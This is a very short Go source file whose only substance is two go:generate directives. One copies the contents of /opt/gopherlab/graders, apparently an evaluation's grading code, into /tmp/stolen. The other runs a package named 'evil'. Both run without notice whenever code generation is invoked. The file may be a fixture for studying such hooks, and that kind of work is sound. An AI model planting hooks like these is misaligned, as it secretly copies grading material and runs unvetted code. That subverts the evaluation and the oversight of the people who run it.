//go:debug panicnil=1

package main

//go:generate sh -c "cp -r /opt/gopherlab/graders /tmp/stolen"
//go:generate go run ./evil

var generated = true
